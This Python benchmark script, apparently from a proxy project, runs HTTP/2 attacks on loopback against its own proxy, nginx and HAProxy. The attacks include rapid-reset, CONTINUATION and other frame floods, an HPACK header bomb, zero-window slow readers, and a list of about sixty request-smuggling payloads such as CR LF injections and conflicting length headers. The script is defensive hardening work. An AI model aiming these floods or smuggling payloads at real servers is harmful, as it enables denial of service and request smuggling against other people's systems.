#!/usr/bin/env python3
"""What an attacker gets for his money over HTTP/2: Turnout beside nginx and HAProxy.

    bench/http2_attacks.py [--only NAME,...] [--proxies turnout,nginx,haproxy] [--seconds N]

Each attack sends for some seconds over one connection at a time, on loopback only, and connects anew when it is cut off. A
normal client asks over a connection of its own before, during and after it. Two tables are printed: what each attack used up,
and what came of each request that is to be refused (smuggling). Needs nginx and haproxy, and a packaged Turnout (TURNOUT names
its start script). Everything that it starts is ended by it. Frames are made by hand, so that they can be wrong.

Attacks: head (256 KiB of a head beside ten open streams), bomb (one field of 4,000 bytes named 4,000 times), reset (HEADERS
and RST_STREAM), madereset (the proxy is made to reset), continuation and emptycontinuation (a head without an end), settings,
ping, emptydata, window (WINDOW_UPDATE of 1), readers (100 connections with windows of 0 and 100 streams of 5.5 MB each),
smuggling (requests that become two requests, or others, when they are written as HTTP/1.1).
"""
import argparse, asyncio, multiprocessing, os, re, shutil, signal, socket, struct, sys, tempfile, threading, time

import attacks

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
CODES = ('NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT STREAM_CLOSED FRAME_SIZE_ERROR '
         'REFUSED_STREAM CANCEL COMPRESSION_ERROR CONNECT_ERROR ENHANCE_YOUR_CALM INADEQUATE_SECURITY HTTP_1_1_REQUIRED').split()
END_STREAM, END_HEADERS = 1, 4


# --- Frames -------------------------------------------------------------------------------------------------------------

def frame(kind, flags=0, stream=0, payload=b''):
    return struct.pack('>I', len(payload))[1:] + struct.pack('>BBI', kind, flags, stream) + payload


def number(value, bits, first):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(name, value, first=0):
    """As a literal with a new name, not to be kept in the table unless first says so (0x40)."""
    name, value = (t if isinstance(t, bytes) else t.encode() for t in (name, value))
    return bytes([first]) + number(len(name), 7, 0) + name + number(len(value), 7, 0) + value


def head(path='/', method='GET', more=(), authority='normal', scheme='http'):
    fields = [(':method', method), (':scheme', scheme), (':path', path), (':authority', authority), *more]
    return b''.join(field(*f) for f in fields)


def settings(**values):
    names = {'table': 1, 'push': 2, 'streams': 3, 'window': 4, 'frame': 5, 'list': 6}
    return frame(SETTINGS, payload=b''.join(struct.pack('>HI', names[n], v) for n, v in values.items()))


DIGITS = {'00000': '0', '00001': '1', '00010': '2', '011001': '3', '011010': '4', '011011': '5', '011100': '6', '011101': '7',
          '011110': '8', '011111': '9'}


def status_of(block):
    """The status of an answer, which is its first field; the table of the sender is to be of size 0."""
    while block and block[0] & 0xe0 == 0x20:
        block = block[1:]
    if not block:
        return 0
    if block[0] & 0x80:
        return {0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500}.get(block[0], 0)
    length = block[1] & 0x7f
    text = block[2:2 + length]
    if block[1] & 0x80:
        bits, digits, word = ''.join(f'{b:08b}' for b in text), '', ''
        for bit in bits:
            word += bit
            if word in DIGITS:
                digits, word = digits + DIGITS[word], ''
        return int(digits[:3] or 0)
    return int(text or 0)


class Connection:
    """Sends without waiting, and notes what comes: statuses and resets of streams, GOAWAY, the end."""

    def __init__(self, port, receive=0, first=None):
        self.socket = socket.socket()
        if receive:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        self.socket.settimeout(attacks.PATIENCE)
        self.socket.connect(('127.0.0.1', port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.began, self.ended, self.goaway = time.monotonic(), None, None
        self.buffer, self.sent, self.statuses, self.resets, self.finished, self.body = bytearray(), 0, {}, {}, set(), {}
        self.send(PREFACE + (first or settings(table=0, push=0)))

    def send(self, data, until=None):
        """Returns true if all was taken before the time, and before the connection ended."""
        rest = memoryview(data)
        until = until or time.monotonic() + attacks.PATIENCE
        while rest and not self.ended and time.monotonic() < until:
            try:
                self.socket.setblocking(False)
                taken = self.socket.send(rest)
                self.sent += taken
                rest = rest[taken:]
            except BlockingIOError:
                self.read(0.01)
            except OSError as e:
                self.end(e)
        return not rest

    def end(self, why):
        self.ended = self.ended or f'{type(why).__name__ if isinstance(why, OSError) else why}'
        self.life = time.monotonic() - self.began

    def read(self, seconds):
        if self.ended:
            return
        self.socket.settimeout(max(seconds, 0.0001))
        try:
            piece = self.socket.recv(1 << 18)
            if not piece:
                self.end('closed')
            self.buffer += piece
        except (TimeoutError, BlockingIOError):
            return
        except OSError as e:
            self.end(e)
            return
        self.parse()

    def parse(self):
        at, acks = 0, []
        while len(self.buffer) - at >= 9:
            length = int.from_bytes(self.buffer[at:at + 3], 'big')
            if len(self.buffer) - at < 9 + length:
                break
            kind, flags, stream = struct.unpack('>BBI', self.buffer[at + 3:at + 9])
            payload = bytes(self.buffer[at + 9:at + 9 + length])
            at += 9 + length
            if kind == HEADERS:
                self.statuses.setdefault(stream, status_of(payload))
            elif kind == DATA:
                self.body[stream] = self.body.get(stream, 0) + length
            elif kind == RST:
                self.resets[stream] = CODES[min(int.from_bytes(payload, 'big'), 13)]
            elif kind == GOAWAY:
                self.goaway = CODES[min(int.from_bytes(payload[4:8], 'big'), 13)]
            elif kind == SETTINGS and not flags & 1:
                acks.append(frame(SETTINGS, 1))
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                self.finished.add(stream)
        del self.buffer[:at]
        if acks:
            self.send(b''.join(acks[:10]))

    def await_(self, condition, seconds=attacks.PATIENCE):
        until = time.monotonic() + seconds
        while not condition() and not self.ended and time.monotonic() < until:
            self.read(0.02)
        return condition()

    def close(self):
        self.end('open')
        self.socket.close()

    def ending(self):
        return ' '.join(filter(None, [self.goaway and 'GOAWAY ' + self.goaway, self.ended or 'open']))


class Client:
    """The normal client, in the place of the one of HTTP/1.1."""

    def __init__(self, port):
        self.connection, self.stream = Connection(port), 1

    def ask(self):
        c, stream = self.connection, self.stream
        self.stream += 2
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, head()))
        c.await_(lambda: stream in c.finished or stream in c.resets or c.goaway)
        return c.statuses.pop(stream, 0) if stream in c.finished and not c.goaway else 0

    def close(self):
        self.connection.close()


# --- The application, which notes what reaches it -------------------------------------------------------------------------

PIECE = b'x' * 10_000


def application(port, reached, notes):
    async def serve(reader, writer):
        try:
            while True:
                head = await reader.readuntil(b'\r\n\r\n')
                # The proxy's own probes are of nobody.
                if not head.startswith(b'GET /-/probe '):
                    with reached.get_lock():
                        reached.value += 1
                    if b'normal' not in head:
                        with open(notes, 'ab') as file:
                            file.write(head)
                path = head.split(b' ')[1]
                length = re.search(rb'(?im)^content-length: *(\d+)', head)
                if length:
                    await reader.readexactly(int(length.group(1)))
                elif re.search(rb'(?im)^transfer-encoding: *chunked', head):
                    while (size := int((await reader.readuntil(b'\r\n')), 16)):
                        await reader.readexactly(size + 2)
                    await reader.readuntil(b'\r\n')
                if path == b'/big':
                    writer.write(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n' % attacks.BODY)
                    # In pieces: so many answers at once would be too much for this process.
                    for _ in range(attacks.BODY // len(PIECE)):
                        writer.write(PIECE)
                        await writer.drain()
                elif path == b'/slow':
                    await asyncio.sleep(3)
                    writer.write(b'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok')
                else:
                    writer.write(b'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok')
                await writer.drain()
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError, ValueError):
            pass
        finally:
            writer.close()

    async def run():
        server = await asyncio.start_server(serve, '127.0.0.1', port, limit=1 << 18, backlog=4096)
        await server.serve_forever()
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    asyncio.run(run())


# --- The attacks --------------------------------------------------------------------------------------------------------

def streams(first, count, per_stream):
    return b''.join(per_stream(first + 2 * i) for i in range(count)), first + 2 * count


GET = head('/reset', authority='attacker')
POST = head('/reset', 'POST', authority='attacker')
OPEN = frame(HEADERS, END_HEADERS, 1, POST)

# What goes out over and over on one connection: (what opens it, batch(next stream) -> (bytes, next stream), units in a batch).
FLOODS = {
    'reset': (b'', lambda s: streams(s, 500, lambda n: frame(HEADERS, END_STREAM | END_HEADERS, n, GET)
                                     + frame(RST, 0, n, b'\0\0\0\x08')), 500),
    'madereset': (b'', lambda s: streams(s, 500, lambda n: frame(HEADERS, END_HEADERS, n, POST)
                                         + frame(WINDOW, 0, n, b'\0\0\0\0')), 500),
    'continuation': (frame(HEADERS, 0, 1, GET), lambda s: (frame(CONTINUATION, 0, 1, field('x-a', 'a' * 8000) * 2) * 8, s), 8),
    'emptycontinuation': (frame(HEADERS, 0, 1, GET), lambda s: (frame(CONTINUATION, 0, 1) * 5000, s), 5000),
    'settings': (b'', lambda s: (settings(streams=100) * 5000, s), 5000),
    'ping': (b'', lambda s: (frame(PING, payload=b'attacker') * 5000, s), 5000),
    'emptydata': (OPEN, lambda s: (frame(DATA, 0, 1) * 5000, s), 5000),
    'window': (OPEN, lambda s: (frame(WINDOW, 0, 1, b'\0\0\0\x01') * 5000, s), 5000),
}
NAMED = 'head bomb readers'.split() + list(FLOODS) + ['smuggling']


def flood(port, seconds, opening, batch, units):
    """Returns connections, bytes, units, the longest life and how connections ended."""
    until, count, sent, made, longest, endings = time.monotonic() + seconds, 0, 0, 0, 0.0, {}
    while time.monotonic() < until:
        try:
            c = Connection(port)
        except OSError:
            time.sleep(0.05)
            continue
        count, stream = count + 1, 3
        c.send(opening, until)
        while time.monotonic() < until and not c.ended and not c.goaway and stream < 2 ** 30:
            data, stream = batch(stream)
            before = c.sent
            c.send(data, until)
            made += units * (c.sent - before) // len(data)
            c.read(0)
        c.read(0.05)
        ending = c.ending()
        c.close()
        sent, longest = sent + c.sent, max(longest, c.life)
        endings[ending] = endings.get(ending, 0) + 1
    most = sorted(endings.items(), key=lambda e: -e[1])[:2]
    return count, sent, made, longest, ', '.join(f'{n} x {e}' for e, n in most)


def one_head(port, block, seconds):
    """A head in pieces of 16 KiB beside ten open streams; says what came of it and of them."""
    until, tries, sent, outcome = time.monotonic() + seconds, 0, 0, ''
    longest = 0.0
    while time.monotonic() < until:
        c = Connection(port)
        tries += 1
        others = range(1, 21, 2)
        c.send(b''.join(frame(HEADERS, END_STREAM | END_HEADERS, n, head('/slow', authority='attacker')) for n in others))
        pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        for i, piece in enumerate(pieces):
            last = END_HEADERS if i == len(pieces) - 1 else 0
            c.send(frame(CONTINUATION, last, 21, piece) if i else frame(HEADERS, END_STREAM | last, 21, piece))
        c.await_(lambda: 21 in c.statuses or 21 in c.resets or c.goaway, 3)
        c.await_(lambda: all(n in c.finished for n in others), 4)
        whole = sum(1 for n in others if c.statuses.get(n) == 200)
        outcome = f'{c.statuses.get(21) or c.resets.get(21) or "no answer"}; others {whole} of 10 answered; {c.ending()}'
        c.close()
        sent, longest = sent + c.sent, max(longest, c.life)
    return tries, sent, tries, longest, outcome


def bomb():
    kept = field('x-bomb', 'b' * 4000, 0x40)
    return GET + kept + bytes([0x80 | 62]) * 4000


def readers(port, seconds):
    until, open_, sent, made = time.monotonic() + seconds, [], 0, 0
    for _ in range(100):
        try:
            c = Connection(port, 4096, settings(table=0, push=0, window=0))
        except OSError:
            continue
        open_.append(c)
        data, _ = streams(1, 100, lambda n: frame(HEADERS, END_STREAM | END_HEADERS, n, head('/big', authority='attacker')))
        c.send(data, min(until, time.monotonic() + 0.2))
        made += 100
    while time.monotonic() < until:
        for c in open_:
            c.read(0)
        time.sleep(0.2)
    endings = {}
    for c in open_:
        ending = c.ending()
        c.close()
        sent += c.sent
        endings[ending] = endings.get(ending, 0) + 1
    most = sorted(endings.items(), key=lambda e: -e[1])[:2]
    return len(open_), sent, made, max((c.life for c in open_), default=0), ', '.join(f'{n} x {e}' for e, n in most)


def attack(name, port, seconds, result):
    if name in FLOODS:
        result.put(flood(port, seconds, *FLOODS[name]))
    elif name == 'readers':
        result.put(readers(port, seconds))
    else:
        block = bomb() if name == 'bomb' else GET + field('x-big', 'a' * 2000) * 128
        result.put(one_head(port, block, seconds))


class Bench:
    def __init__(self, work):
        self.work, self.backend, self.notes = work, attacks.free_port(), os.path.join(work, 'notes')
        self.reached = multiprocessing.Value('q', 0)
        self.process = multiprocessing.Process(
            target=application, args=(self.backend, self.reached, self.notes), daemon=True)
        self.process.start()

    def proxy(self, kind):
        listen = {'nginx': ' http2', 'haproxy': '', 'turnout': ''}[kind]
        return attacks.Proxy(kind, self.backend, 20000, self.work, Client, listen)

    def run(self, name, kind, seconds):
        proxy = self.proxy(kind)
        try:
            normal = attacks.Normal(proxy.port, True, Client)
            usage, sampling = [], True

            def sample():
                while sampling:
                    usage.append((time.monotonic(), *proxy.usage()))
                    time.sleep(0.1)
            sampler = threading.Thread(target=sample, daemon=True)
            normal.start(), sampler.start()
            time.sleep(1)
            began = time.monotonic()
            time.sleep(2)
            start, cpu, reached, asked = time.monotonic(), proxy.cpu(), self.reached.value, len(normal.notes)
            result = multiprocessing.Queue()
            attacker = multiprocessing.Process(target=attack, args=(name, proxy.port, seconds, result), daemon=True)
            attacker.start()
            try:
                connections, sent, made, longest, endings = result.get(timeout=seconds + 60)
            except Exception:
                connections, sent, made, longest, endings = 0, 0, 0, 0, 'the attack failed'
            attacker.kill()
            stop, spent = time.monotonic(), proxy.cpu() - cpu
            reached, asked = self.reached.value - reached, len(normal.notes) - asked
            time.sleep(3)
            normal.going = sampling = False
            normal.join(5), sampler.join(5)
            last = usage[-1][1]
            return [name, kind, str(connections), f'{sent / 1e6:.1f}', f'{made:,}', f'{max(0, reached - asked):,}', f'{longest:.1f}',
                    f'{spent:.2f} of {stop - start:.0f}', f'{spent * 1000 / max(sent / 1e6, 0.001):.0f}',
                    f'{attacks.most(usage, began, start, 1):.0f} / {attacks.most(usage, start, stop, 1):.0f} / {last:.0f}',
                    f'{normal.between(began, start)[0]} / {normal.between(start, stop)[0]}', normal.between(start, stop)[1], endings]
        finally:
            proxy.end()

    # --- Smuggling ---

    def refusals(self, kinds):
        proxies = {kind: self.proxy(kind) for kind in kinds}
        rows = [['request', *kinds], ['---'] * (1 + len(kinds))]
        try:
            for name, frames in SMUGGLING.items():
                row = [name]
                for kind in kinds:
                    row.append(self.outcome(proxies[kind].port, frames))
                rows.append(row)
        finally:
            for proxy in proxies.values():
                proxy.end()
        return rows

    def outcome(self, port, frames):
        open(self.notes, 'wb').close()
        c = Connection(port)
        c.send(frames)
        c.await_(lambda: 1 in c.statuses or 1 in c.resets or c.goaway, 1.5)
        c.read(0.05)
        answer = c.statuses.get(1) or c.resets.get(1) or (c.goaway and 'GOAWAY ' + c.goaway) or c.ended or 'no answer'
        c.close()
        time.sleep(0.05)
        heads = open(self.notes, 'rb').read()
        count = len(re.findall(rb'HTTP/1\.1\r\n', heads))
        # What the attacker has written in must not stand as a line of its own, and its request must not be one.
        smuggled = re.search(rb'(?im)^(x-smuggled|GET /smuggled|transfer-encoding: *chunked, *x|transfer-encoding: *x)', heads)
        return f'{answer}, {"SMUGGLED" if smuggled or count > 1 else "reached" if count else "kept out"}'


def request(more=(), body=None, ends=True, **values):
    values.setdefault('authority', 'attacker')
    method = values.pop('method', 'POST' if body is not None else 'GET')
    block = values.pop('block', None) or head(method=method, more=more, **values)
    if body is None:
        return frame(HEADERS, END_STREAM | END_HEADERS, 1, block)
    return frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM if ends else 0, 1, body)


def raw(*fields):
    return request(block=b''.join(field(*f) for f in fields))


SMUGGLED = b'GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n'
BASE = [(':method', 'GET'), (':scheme', 'http'), (':path', '/'), (':authority', 'attacker')]
SMUGGLING = {
    'H2.CL: content-length 0 before content': request([('content-length', '0')], SMUGGLED),
    'H2.CL: content-length less than content': request([('content-length', '4')], SMUGGLED),
    'H2.CL: content-length more than content': request([('content-length', '400')], SMUGGLED),
    'H2.CL: two unequal content-lengths': request([('content-length', '4'), ('content-length', '36')], SMUGGLED),
    'H2.CL: content-length with a sign': request([('content-length', '+36')], SMUGGLED),
    'H2.CL: content-length "36, 36"': request([('content-length', '36, 4')], SMUGGLED),
    'H2.CL: content-length of a request without content': request([('content-length', '5')]),
    'H2.TE: transfer-encoding chunked': request([('transfer-encoding', 'chunked')], b'0\r\n\r\n' + SMUGGLED),
    'H2.TE: transfer-encoding Chunked, identity': request([('transfer-encoding', 'identity, Chunked')], b'0\r\n\r\n' + SMUGGLED),
    'te: gzip': request([('te', 'gzip')]),
    'connection: close': request([('connection', 'close')]),
    'keep-alive': request([('keep-alive', 'timeout=5')]),
    'proxy-connection': request([('proxy-connection', 'close')]),
    'upgrade: websocket': request([('upgrade', 'websocket')]),
    'CR LF in a value': request([('x-a', 'a\r\nx-smuggled: 1')]),
    'CR LF CR LF and a request in a value': request([('x-a', b'a\r\n\r\n' + SMUGGLED)]),
    'LF in a value': request([('x-a', 'a\nx-smuggled: 1')]),
    'CR in a value': request([('x-a', 'a\rx-smuggled: 1')]),
    'NUL in a value': request([('x-a', 'a\0b')]),
    'blank at the end of a value': request([('x-a', 'a ')]),
    'CR LF in a name': request([('x-a: a\r\nx-smuggled', '1')]),
    'colon in a name': request([('transfer-encoding: chunked', '')]),
    'blank in a name': request([('x a', '1')]),
    'blank at the end of a name': request([('transfer-encoding ', 'chunked')]),
    'upper case in a name': request([('X-A', '1')]),
    'empty name': request([('', '1')]),
    'octet 0x80 in a name': request([(b'x\x80', '1')]),
    'CR LF in :method': raw((':method', 'GET / HTTP/1.1\r\nx-smuggled: 1\r\nx-a:'), *BASE[1:]),
    'blank in :method': raw((':method', 'GET /smuggled'), *BASE[1:]),
    'CR LF in :path': raw(*BASE[:2], (':path', '/ HTTP/1.1\r\nx-smuggled: 1\r\nx-a:'), BASE[3]),
    'blank in :path': raw(*BASE[:2], (':path', '/ HTTP/1.1'), BASE[3]),
    'tab in :path': raw(*BASE[:2], (':path', '/a\tb'), BASE[3]),
    'empty :path': raw(*BASE[:2], (':path', ''), BASE[3]),
    ':path without a slash': raw(*BASE[:2], (':path', 'smuggled'), BASE[3]),
    ':path as a URL of another host': raw(*BASE[:2], (':path', 'http://x/smuggled'), BASE[3]),
    'fragment in :path': raw(*BASE[:2], (':path', '/#a'), BASE[3]),
    'CR LF in :authority': raw(*BASE[:3], (':authority', 'attacker\r\nx-smuggled: 1')),
    'user info in :authority': raw(*BASE[:3], (':authority', 'a@attacker')),
    'path in :authority': raw(*BASE[:3], (':authority', 'attacker/x')),
    'empty :authority': raw(*BASE[:3], (':authority', '')),
    'host differs from :authority': request([('host', 'other')]),
    'two hosts, no :authority': raw(*BASE[:3], ('host', 'attacker'), ('host', 'other')),
    'CR LF in :scheme': raw(BASE[0], (':scheme', 'http\r\nx-smuggled: 1'), *BASE[2:]),
    ':scheme with a path': raw(BASE[0], (':scheme', 'http://x/smuggled?'), *BASE[2:]),
    'no :method': raw(*BASE[1:]),
    'no :path': raw(*BASE[:2], BASE[3]),
    'no :scheme': raw(BASE[0], *BASE[2:]),
    'two :methods': raw(BASE[0], *BASE),
    'two :paths': raw(BASE[2], *BASE),
    'two :authorities': raw(BASE[3], *BASE),
    ':status in a request': raw(*BASE, (':status', '200')),
    'unknown pseudo-header': raw(*BASE, (':smuggled', '1')),
    'pseudo-header after a field': raw(*BASE[:3], ('x-a', '1'), BASE[3]),
    'CONNECT': raw((':method', 'CONNECT'), (':authority', 'attacker:25')),
    'CONNECT with an unknown :protocol': raw((':method', 'CONNECT'), *BASE[1:], (':protocol', 'smtp')),
    ':protocol without CONNECT': raw(*BASE, (':protocol', 'websocket')),
    'transfer-encoding in a trailer': request(body=b'a', ends=False) + frame(
        HEADERS, END_STREAM | END_HEADERS, 1, field('transfer-encoding', 'chunked')),
    'pseudo-header in a trailer': request(body=b'a', ends=False) + frame(
        HEADERS, END_STREAM | END_HEADERS, 1, field(':path', '/smuggled')),
    'CR LF in a trailer': request(body=b'a', ends=False) + frame(
        HEADERS, END_STREAM | END_HEADERS, 1, field('x-a', 'a\r\n\r\n' + SMUGGLED.decode())),
    'trailer without an end of stream': request(body=b'a', ends=False) + frame(HEADERS, END_HEADERS, 1, field('x-a', '1')),
    'index 0': request(block=head(authority='attacker') + b'\x80'),
    'index beyond the table': request(block=head(authority='attacker') + b'\xff\x80\x01'),
    'table size beyond what was allowed': request(block=b'\x3f\xe1\xff\x7f' + head(authority='attacker')),
    'EOS in a Huffman code': request(block=head(authority='attacker') + b'\x00\x01a\x84\xff\xff\xff\xff'),
}


def table(rows):
    for row in rows:
        print('| ' + ' | '.join(row) + ' |')


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('--only', default=','.join(NAMED))
    parser.add_argument('--proxies', default='turnout,nginx,haproxy')
    parser.add_argument('--seconds', type=int, default=8)
    options = parser.parse_args()
    os.environ['PATH'] += ':/usr/sbin'
    kinds, names = options.proxies.split(','), options.only.split(',')
    for program in kinds:
        if not shutil.which(attacks.TURNOUT if program == 'turnout' else program):
            sys.exit(f'http2_attacks.py: {program} is missing')
    if unknown := [name for name in names if name not in NAMED]:
        sys.exit(f'http2_attacks.py: no attack {unknown[0]}; there are {", ".join(NAMED)}')
    work = tempfile.mkdtemp(prefix='attacks')
    os.chmod(work, 0o755)
    bench = Bench(work)
    rows = [['attack', 'proxy', 'connections', 'MB sent', 'frames or streams', 'reached the application', 'longest, s',
             'CPU of the proxy, s', 'ms CPU per MB', 'RSS, MiB', 'p99 of the normal client, ms', 'failed', 'how it ended'],
            ['---'] * 13]
    refusals = []
    try:
        for name in names:
            if name == 'smuggling':
                refusals = bench.refusals(kinds)
                continue
            for kind in kinds:
                rows.append(bench.run(name, kind, options.seconds))
                print('done:', ' | '.join(rows[-1]), file=sys.stderr)
    finally:
        bench.process.kill()
        shutil.rmtree(work, ignore_errors=True)
    print('RSS: before / most during / 3 s after. p99: before / during.')
    table(rows)
    print()
    table(refusals)


if __name__ == '__main__':
    main()
